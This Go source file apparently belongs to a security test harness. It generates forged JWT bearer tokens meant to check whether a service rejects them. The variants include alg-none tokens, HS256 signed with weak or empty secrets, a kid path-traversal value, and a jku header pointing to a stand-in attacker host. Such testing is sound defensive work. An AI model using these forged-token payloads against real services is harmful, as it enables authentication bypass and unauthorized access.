package attack

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
)

// tokens are forged JWTs, each for a subject of its own. Nobody has issued one, so none has a
// signature that verifies, or it has none, or one under a secret that every wordlist holds.
func tokens() []Family {
	forged := func(name string, head map[string]any, sign func(text string, i int) string) Family {
		return Family{name, func(r Request, i int) Request {
			return r.With(Field{"Authorization", "Bearer " + forge(head, claims(i),
				func(text string) string { return sign(text, i) })})
		}}
	}
	random := func(n int) func(string, int) string {
		return func(_ string, i int) string {
			var sum []byte
			for len(sum) < n {
				sum = append(sum, digest("signature", i+len(sum)<<24)...)
			}
			return encode64(sum[:n])
		}
	}
	hs256 := func(secret string) func(string, int) string {
		return func(text string, _ int) string {
			mac := hmac.New(sha256.New, []byte(secret))
			mac.Write([]byte(text))
			return encode64(mac.Sum(nil))
		}
	}
	head := func(alg string, more ...string) map[string]any {
		h := map[string]any{"alg": alg, "typ": "JWT"}
		for i := 0; i+1 < len(more); i += 2 {
			h[more[i]] = more[i+1]
		}
		return h
	}
	return []Family{
		forged("no signature, alg none", head("none"), func(string, int) string { return "" }),
		forged("no signature, alg nOnE", head("nOnE"), func(string, int) string { return "" }),
		forged("HS256 with the secret \"secret\"", head("HS256"), hs256("secret")),
		forged("HS256 with an empty secret", head("HS256"), hs256("")),
		forged("HS256, random signature", head("HS256"), random(32)),
		forged("RS256, random signature", head("RS256", "kid", "1"), random(256)),
		forged("ES256, signature of zeros", head("ES256"),
			func(string, int) string { return encode64(make([]byte, 64)) }),
		forged("EdDSA, random signature", head("EdDSA"), random(64)),
		forged("kid that is a path", head("HS256", "kid", "../../../../dev/null"), hs256("")),
		forged("keys of the token's own", head("RS256", "jku", "https://attacker.invalid/jwks.json"), random(256)),
		{"no JWT", func(r Request, i int) Request {
			return r.With(Field{"Authorization", "Bearer " + hex.EncodeToString(digest("opaque", i))})
		}},
		{"three dots", func(r Request, i int) Request {
			return r.With(Field{"Authorization", fmt.Sprintf("Bearer ..%d..", i)})
		}},
	}
}

// claims are those of a user whom nobody knows, good until 2100.
func claims(i int) map[string]any {
	name := hex.EncodeToString(digest("subject", i)[:8])
	return map[string]any{"sub": name, "tenant": name, "iat": 1700000000, "exp": 4102444800}
}

func forge(head, claims map[string]any, sign func(text string) string) string {
	text := encode64(marshal(head)) + "." + encode64(marshal(claims))
	return text + "." + sign(text)
}

func marshal(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err) // maps of strings and numbers
	}
	return b
}

func encode64(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }
